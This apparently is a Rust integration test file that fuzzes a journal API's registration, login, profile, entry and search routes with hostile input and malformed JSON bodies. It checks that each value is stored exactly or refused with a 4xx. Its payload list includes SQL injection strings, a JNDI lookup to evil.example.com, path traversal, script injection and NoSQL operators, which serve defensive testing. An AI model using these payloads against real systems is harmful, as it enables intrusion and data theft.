//! Injection and hostile text in every field and query parameter: SQL, full-text
//! operators, NUL, invalid UTF-8, huge words, deep nesting, duplicate keys and values of
//! the wrong type. Each is either accepted and stored exactly, or refused with a clear
//! 4xx and the error body, never a 500; nothing refused is stored.

use serde_json::{Value, json};

use crate::hostile::{
    assert_no_server_error, assert_refused, can_log_in, own_entries, profile, raw_exchange,
    raw_json_request, raw_status,
};
use crate::support::{Api, User, assert_error, ids, on_every_database, unique_email};

on_every_database!(
    hostile_text_at_registration_is_stored_exactly_or_refused,
    hostile_text_at_login_never_logs_in_or_fails_the_server,
    hostile_text_in_a_profile_update_is_stored_exactly_or_refused,
    hostile_text_in_a_password_change_is_stored_exactly_or_refused,
    hostile_text_in_entries_is_stored_exactly_or_refused,
    hostile_query_parameters_are_400_or_harmless,
    malformed_bodies_are_400_on_every_route_that_takes_one,
    invalid_utf8_in_the_query_string_is_a_4xx,
    a_huge_content_of_distinct_words_is_stored_and_searchable,
);

/// Text that has broken other services: SQL, full-text operators, NUL, control
/// characters, huge words, odd Unicode.
fn hostile_strings() -> Vec<String> {
    let mut strings: Vec<String> = [
        "' OR '1'='1",
        "' OR 1=1 --",
        "'; DROP TABLE users; --",
        "\"; DROP TABLE entries; --",
        "1; SELECT pg_sleep(5); --",
        "' UNION SELECT password_hash, email FROM users --",
        "\\'; --",
        "%' --",
        "$1",
        "?",
        "NEAR(secret diary)",
        "title:secret",
        "secret OR diary",
        "\"unterminated",
        "*",
        "-secret",
        "secret AND NOT diary",
        "^secret",
        "{title content}: secret",
        "secret*",
        "a & b | !c",
        "a <-> b",
        "':*",
        "(((",
        "\u{0}",
        "a\u{0}b",
        "\u{1}\u{7}\u{1b}[31m",
        "\r\n\r\nHTTP/1.1 200 OK",
        "\u{202e}gnp.exe",
        "💥🔥",
        "e\u{301}\u{301}\u{301}",
        "\u{feff}bom",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "{\"$ne\": null}",
        "${jndi:ldap://evil.example.com/a}",
        "name@example.com",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    strings.push("w".repeat(10_000));
    strings.push("é".repeat(10_000));
    strings
}

/// JSON values of the wrong type for a string field.
fn not_strings() -> Vec<Value> {
    vec![
        json!(42),
        json!(-1.5e300),
        json!(true),
        json!([]),
        json!(["a"]),
        json!({}),
        json!({ "$gt": "" }),
    ]
}

/// JSON values of the wrong type for a boolean field.
fn not_booleans() -> Vec<Value> {
    vec![
        json!("true"),
        json!(1),
        json!(0),
        json!([]),
        json!({}),
        json!("' OR 1=1 --"),
    ]
}

fn register_body(field: &str, value: Value) -> (String, Value) {
    let email = unique_email("hostile");
    let mut body = json!({ "fullName": "Hostile Tester", "nickname": "hostile",
                           "email": email, "password": "a perfectly fine passphrase" });
    body[field] = value;
    let email = body["email"].as_str().map_or(email, str::to_owned);
    (email, body)
}

async fn hostile_text_at_registration_is_stored_exactly_or_refused(db: &str) {
    let api = Api::start(db);
    let fields = ["fullName", "nickname", "email", "password"];
    for field in fields {
        for text in hostile_strings() {
            let value = if field == "email" {
                json!(format!("{}{text}", unique_email("x")))
            } else {
                json!(text)
            };
            let (email, body) = register_body(field, value.clone());
            let password = body["password"].as_str().unwrap_or("").to_owned();
            let what = format!("register {field} = {:.60}", value.to_string());
            let response = api.post("/api/user/register", None, body.clone()).await;
            if response.status().as_u16() == 201 {
                // Accepted: stored exactly as the rules say (names trimmed, e-mail
                // lower-cased).
                let token = api.login(&email, &password).await;
                let user = User {
                    id: String::new(),
                    email: email.clone(),
                    password,
                    token,
                };
                let stored = profile(&api, &user).await;
                match field {
                    "fullName" | "nickname" => {
                        assert_eq!(stored[field], text.trim(), "{what}")
                    }
                    "email" => assert_eq!(stored["email"], email.trim().to_lowercase()),
                    _ => {}
                }
            } else {
                assert_refused(response, &what).await;
                assert!(!can_log_in(&api, &email, &password).await, "{what}: stored");
            }
        }
        for value in not_strings() {
            let (email, body) = register_body(field, value.clone());
            let what = format!("register {field} = {value}");
            let response = api.post("/api/user/register", None, body).await;
            let (status, _) = assert_refused(response, &what).await;
            assert_eq!(status, 400, "{what}");
            if field != "email" && field != "password" {
                assert!(!can_log_in(&api, &email, "a perfectly fine passphrase").await);
            }
        }
    }
}

async fn hostile_text_at_login_never_logs_in_or_fails_the_server(db: &str) {
    // The per-account throttle would answer 429 after ten failures; this is about what
    // the login itself does with the text.
    let api = Api::start_with(db, &["--login-failure-limit", "0"]);
    let user = api.user("victim").await;
    let mut bodies = Vec::new();
    for text in hostile_strings() {
        bodies.push(json!({ "email": text, "password": user.password }));
        bodies.push(json!({ "email": user.email, "password": text }));
        bodies.push(json!({ "email": format!("{}{text}", user.email), "password": user.password }));
    }
    for value in not_strings() {
        bodies.push(json!({ "email": value, "password": user.password }));
        bodies.push(json!({ "email": user.email, "password": value }));
    }
    for body in bodies {
        let what = format!("login {:.80}", body.to_string());
        let response = api.post("/api/user/login", None, body).await;
        let (status, _) = assert_refused(response, &what).await;
        assert!(matches!(status, 400 | 401), "{what}: {status}");
    }
    assert!(can_log_in(&api, &user.email, &user.password).await);
}

async fn hostile_text_in_a_profile_update_is_stored_exactly_or_refused(db: &str) {
    let api = Api::start(db);
    let user = api.user("profiled").await;
    let mut values: Vec<(&str, Value)> = Vec::new();
    for text in hostile_strings() {
        for field in ["fullName", "nickname", "profilePic"] {
            values.push((field, json!(text)));
        }
        values.push(("profilePic", json!(format!("data:image/png;base64,{text}"))));
        values.push(("email", json!(format!("{}{text}", unique_email("p")))));
        values.push(("email", json!(text)));
    }
    for field in ["fullName", "nickname", "email", "profilePic"] {
        for value in not_strings() {
            values.push((field, value));
        }
    }
    for value in not_booleans() {
        values.push(("isPrivate", value));
    }
    for (field, value) in values {
        let what = format!("profile {field} = {:.60}", value.to_string());
        let before = profile(&api, &user).await;
        let response = api
            .put(
                "/api/user/profile",
                Some(&user.token),
                json!({ field: value }),
            )
            .await;
        let after = profile(&api, &user).await;
        if response.status().as_u16() == 200 {
            let text = value.as_str().expect("only strings are accepted");
            let expected = match field {
                "email" => text.trim().to_lowercase(),
                "profilePic" => text.to_owned(),
                _ => text.trim().to_owned(),
            };
            assert_eq!(after[field], expected.as_str(), "{what}");
        } else {
            assert_refused(response, &what).await;
            assert_eq!(after, before, "{what}: changed although refused");
        }
    }
}

async fn hostile_text_in_a_password_change_is_stored_exactly_or_refused(db: &str) {
    let api = Api::start(db);
    let mut user = api.user("changer").await;
    let mut values: Vec<Value> = hostile_strings().into_iter().map(Value::from).collect();
    values.extend(not_strings());
    for value in values {
        for field in ["password", "newPassword"] {
            let mut body =
                json!({ "password": user.password, "newPassword": "another fine passphrase" });
            body[field] = value.clone();
            let what = format!("password change {field} = {:.60}", value.to_string());
            let response = api
                .put(
                    "/api/user/profile/password",
                    Some(&user.token),
                    body.clone(),
                )
                .await;
            if response.status().as_u16() == 200 {
                // Accepted: exactly that password logs in from now on.
                let new = body["newPassword"].as_str().expect("a string").to_owned();
                user.token = api.login(&user.email, &new).await;
                user.password = new;
            } else {
                let (status, _) = assert_refused(response, &what).await;
                assert!(matches!(status, 400 | 401), "{what}: {status}");
                assert!(
                    can_log_in(&api, &user.email, &user.password).await,
                    "{what}"
                );
            }
        }
    }
}

async fn hostile_text_in_entries_is_stored_exactly_or_refused(db: &str) {
    let api = Api::start(db);
    let user = api.user("author").await;
    let base = api.entry(&user, "the base entry", false).await;
    let path = format!("/api/journal-entries/{}", base["_id"].as_str().unwrap());
    let mut values: Vec<(&str, Value)> = Vec::new();
    for text in hostile_strings() {
        values.push(("title", json!(text)));
        values.push(("content", json!(text)));
    }
    for field in ["title", "content"] {
        for value in not_strings() {
            values.push((field, value));
        }
    }
    for value in not_booleans() {
        values.push(("isPublic", value));
    }
    let mut expected = vec![base.clone()];
    let mut current = base;
    for (field, value) in values {
        // Create.
        let what = format!("create {field} = {:.60}", value.to_string());
        let mut body = json!({ "title": "a title", "content": "some content", "isPublic": false });
        body[field] = value.clone();
        let response = api
            .post("/api/journal-entries", Some(&user.token), body)
            .await;
        if response.status().as_u16() == 201 {
            let created: Value = response.json().await.unwrap();
            let text = value.as_str().expect("only strings are accepted");
            let stored = if field == "title" { text.trim() } else { text };
            assert_eq!(created[field], stored, "{what}");
            let read = api
                .get(
                    &format!("/api/journal-entries/{}", created["_id"].as_str().unwrap()),
                    Some(&user.token),
                )
                .await;
            assert_eq!(read.json::<Value>().await.unwrap(), created, "{what}");
            expected.push(created);
        } else {
            assert_refused(response, &what).await;
        }
        // Update.
        let what = format!("update {field} = {:.60}", value.to_string());
        let response = api
            .put(&path, Some(&user.token), json!({ field: value }))
            .await;
        if response.status().as_u16() == 200 {
            let updated: Value = response.json().await.unwrap();
            let text = value.as_str().expect("only strings are accepted");
            let stored = if field == "title" { text.trim() } else { text };
            assert_eq!(updated[field], stored, "{what}");
            current = updated;
        } else {
            assert_refused(response, &what).await;
        }
        let read = api.get(&path, Some(&user.token)).await;
        assert_eq!(read.json::<Value>().await.unwrap(), current, "{what}");
        expected[0] = current.clone();
    }
    // Exactly what was accepted is stored, nothing else.
    let mut stored = ids(&Value::Array(own_entries_all(&api, &user).await));
    let mut accepted: Vec<String> = expected
        .iter()
        .map(|e| e["_id"].as_str().unwrap().to_owned())
        .collect();
    stored.sort();
    accepted.sort();
    assert_eq!(stored, accepted);
}

/// All of a user's entries, across pages.
async fn own_entries_all(api: &Api, user: &User) -> Vec<Value> {
    let mut all = Vec::new();
    for page in 1.. {
        let response = api
            .get(
                &format!(
                    "/api/user/{}/journal-entries?limit=100&page={page}",
                    user.id
                ),
                Some(&user.token),
            )
            .await;
        let items: Vec<Value> = response.json().await.unwrap();
        if items.is_empty() {
            break;
        }
        all.extend(items);
    }
    all
}

/// Percent-encodes every byte but unreserved characters.
fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            other => format!("%{other:02X}"),
        })
        .collect()
}

async fn hostile_query_parameters_are_400_or_harmless(db: &str) {
    let api = Api::start(db);
    let user = api.user("searcher").await;
    let other = api.user("other").await;
    api.entry(&user, "secret diary", false).await;
    api.entry(&other, "secret diary of someone else", false)
        .await;
    let mut numbers: Vec<String> = [
        "0",
        "-1",
        "101",
        "1e3",
        "1.5",
        "0x10",
        "99999999999999999999",
        "4294967296",
        "NaN",
        "Infinity",
        "",
        " 1",
        "1 OR 1=1",
        "1;--",
        "1%00",
        "null",
        "[]",
        "{}",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    numbers.extend(hostile_strings());
    let lists = [
        format!("/api/user/{}/journal-entries", user.id),
        "/api/public/journal-entries".to_owned(),
        "/api/search/journal-entries?q=secret".to_owned(),
    ];
    for list in &lists {
        let sep = if list.contains('?') { '&' } else { '?' };
        for value in &numbers {
            for param in ["page", "limit"] {
                let path = format!("{list}{sep}{param}={}", encode(value));
                let response = api.get(&path, Some(&user.token)).await;
                if response.status().as_u16() != 200 {
                    let (status, _) = assert_refused(response, &path).await;
                    assert_eq!(status, 400, "{path}");
                }
            }
        }
        // Repeated and unknown parameters.
        for query in [
            "page=1&page=2",
            "limit=1&limit=1000",
            "page[]=1",
            "page[$gt]=0",
            "x=%00",
        ] {
            let path = format!("{list}{sep}{query}");
            let response = api.get(&path, Some(&user.token)).await;
            assert_no_server_error(response, &path).await;
        }
    }
    // Search text: never an error beyond 400, and only the caller's own entries.
    for q in hostile_strings() {
        let path = format!("/api/search/journal-entries?q={}&limit=100", encode(&q));
        let response = api.get(&path, Some(&user.token)).await;
        if response.status().as_u16() == 200 {
            let found: Value = response.json().await.unwrap();
            for entry in found.as_array().unwrap() {
                assert_eq!(entry["author_id"], user.id.as_str(), "{path}");
            }
        } else {
            let (status, _) = assert_refused(response, &path).await;
            assert_eq!(status, 400, "{path}");
        }
    }
    assert_eq!(own_entries(&api, &user).await.len(), 1);
    assert_eq!(own_entries(&api, &other).await.len(), 1);
}

/// Bodies that are not a JSON object of the right shape, as raw bytes.
fn malformed_bodies() -> Vec<(String, Vec<u8>)> {
    let deep_arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_objects = format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000));
    let mut bodies: Vec<(String, Vec<u8>)> = vec![
        ("empty".into(), b"".to_vec()),
        ("null".into(), b"null".to_vec()),
        ("an array".into(), b"[]".to_vec()),
        ("a string".into(), b"\"x\"".to_vec()),
        ("a number".into(), b"1".to_vec()),
        ("not JSON".into(), b"title=x".to_vec()),
        ("truncated".into(), b"{\"title\": \"x\"".to_vec()),
        ("trailing garbage".into(), b"{\"title\": \"x\"} x".to_vec()),
        (
            "two objects".into(),
            b"{\"title\": \"x\"}{\"title\": \"y\"}".to_vec(),
        ),
        ("a raw NUL byte".into(), b"{\"title\": \"a\x00b\"}".to_vec()),
        (
            "a raw control character".into(),
            b"{\"title\": \"a\x01b\"}".to_vec(),
        ),
        (
            "invalid UTF-8 in a string".into(),
            b"{\"title\": \"\xff\xfe\"}".to_vec(),
        ),
        (
            "invalid UTF-8 outside strings".into(),
            b"{\xff: 1}".to_vec(),
        ),
        (
            "a lone surrogate escape".into(),
            b"{\"title\": \"\\ud800\"}".to_vec(),
        ),
        (
            "a UTF-16 body".into(),
            "{\"title\": \"x\"}"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
        ),
        ("single quotes".into(), b"{'title': 'x'}".to_vec()),
        ("a comment".into(), b"{\"title\": \"x\" /* c */}".to_vec()),
        ("NaN".into(), b"{\"isPublic\": NaN}".to_vec()),
        (
            "a huge number".into(),
            format!("{{\"isPublic\": 1{}}}", "0".repeat(5000)).into_bytes(),
        ),
        (
            "depth 10,000 of arrays".into(),
            deep_arrays.clone().into_bytes(),
        ),
        (
            "depth 10,000 of objects".into(),
            deep_objects.clone().into_bytes(),
        ),
        (
            "depth 10,000 in a field".into(),
            format!("{{\"title\": {deep_arrays}}}").into_bytes(),
        ),
        (
            "depth 10,000 in an unknown field".into(),
            format!("{{\"x\": {deep_objects}}}").into_bytes(),
        ),
    ];
    for field in [
        "title",
        "content",
        "email",
        "password",
        "newPassword",
        "fullName",
        "nickname",
        "profilePic",
        "isPublic",
        "isPrivate",
    ] {
        let value = if field.starts_with("is") {
            "true"
        } else {
            "\"a duplicated value\""
        };
        bodies.push((
            format!("duplicate key {field}"),
            format!("{{\"{field}\": {value}, \"{field}\": {value}}}").into_bytes(),
        ));
    }
    bodies
}

async fn malformed_bodies_are_400_on_every_route_that_takes_one(db: &str) {
    let api = Api::start(db);
    let user = api.user("target").await;
    let entry = api.entry(&user, "the only entry", false).await;
    let entry_path = format!("/api/journal-entries/{}", entry["_id"].as_str().unwrap());
    let before_profile = profile(&api, &user).await;
    let routes: [(&str, &str, Option<&str>); 6] = [
        ("POST", "/api/user/register", None),
        ("POST", "/api/user/login", None),
        ("PUT", "/api/user/profile", Some(&user.token)),
        ("PUT", "/api/user/profile/password", Some(&user.token)),
        ("POST", "/api/journal-entries", Some(&user.token)),
        ("PUT", &entry_path, Some(&user.token)),
    ];
    for (what, body) in malformed_bodies() {
        for (method, path, token) in routes {
            let request = raw_json_request(api.server.addr, method, path, token, &body);
            let answer = raw_exchange(api.server.addr, &request).await;
            let status = raw_status(&answer);
            assert_eq!(status, 400, "{method} {path} with {what}: {:.300}", answer);
            assert!(
                answer.contains("\"Bad Request\""),
                "{method} {path} with {what}: {answer:.300}"
            );
        }
    }
    // Nothing changed.
    assert_eq!(profile(&api, &user).await, before_profile);
    assert_eq!(own_entries(&api, &user).await, [entry]);
    assert!(can_log_in(&api, &user.email, &user.password).await);
}

async fn invalid_utf8_in_the_query_string_is_a_4xx(db: &str) {
    let api = Api::start(db);
    let user = api.user("utf8").await;
    for path in [
        "/api/search/journal-entries?q=%FF%FE".to_owned(),
        "/api/search/journal-entries?q=a%C0%AFb".to_owned(),
        "/api/search/journal-entries?q=%00".to_owned(),
        "/api/search/journal-entries?q=x&page=%FF".to_owned(),
        "/api/public/journal-entries?limit=%FF".to_owned(),
        format!("/api/user/{}/journal-entries?page=%C3%28", user.id),
        "/api/search/journal-entries?q=%".to_owned(),
        "/api/search/journal-entries?q=%zz".to_owned(),
    ] {
        let response = api.get(&path, Some(&user.token)).await;
        if response.status().as_u16() != 200 {
            let (status, _) = assert_refused(response, &path).await;
            assert_eq!(status, 400, "{path}");
        }
    }
    // Raw bytes that are not UTF-8 in the request line itself: the HTTP layer refuses
    // them (a 4xx), or the route does; never a 5xx.
    for target in [
        b"/api/search/journal-entries?q=\xff\xfe".to_vec(),
        b"/api/journal-entries/\xff".to_vec(),
    ] {
        let mut request = b"GET ".to_vec();
        request.extend_from_slice(&target);
        request.extend_from_slice(
            format!(
                " HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
                api.server.addr, user.token
            )
            .as_bytes(),
        );
        let answer = raw_exchange(api.server.addr, &request).await;
        let status = raw_status(&answer);
        assert!((400..500).contains(&status), "{answer:.300}");
    }
    let status = api.get("/api/status", None).await;
    assert_eq!(status.status().as_u16(), 200);
}

async fn a_huge_content_of_distinct_words_is_stored_and_searchable(db: &str) {
    let api = Api::start(db);
    let user = api.user("wordy").await;
    // 100,000 characters (the limit) of distinct words, to stress the full-text index.
    let mut content = String::new();
    let mut n: u64 = 0;
    while content.chars().count() < 99_990 {
        let mut word = String::new();
        let mut k = n;
        loop {
            word.push(char::from(b'a' + (k % 26) as u8));
            k /= 26;
            if k == 0 {
                break;
            }
        }
        content.push_str(&word);
        content.push('x');
        content.push(' ');
        n += 1;
    }
    let response = api
        .post(
            "/api/journal-entries",
            Some(&user.token),
            json!({ "title": "many words", "content": content }),
        )
        .await;
    assert_eq!(
        response.status().as_u16(),
        201,
        "{}",
        response.text().await.unwrap()
    );
    // One more character is refused, and stored nowhere.
    let too_long = "w".repeat(100_001);
    let response = api
        .post(
            "/api/journal-entries",
            Some(&user.token),
            json!({ "title": "too many words", "content": too_long }),
        )
        .await;
    assert_error(response, 400, "Bad Request").await;
    let found = api
        .get("/api/search/journal-entries?q=many", Some(&user.token))
        .await;
    assert_eq!(found.status().as_u16(), 200);
    assert_eq!(own_entries(&api, &user).await.len(), 1);
}
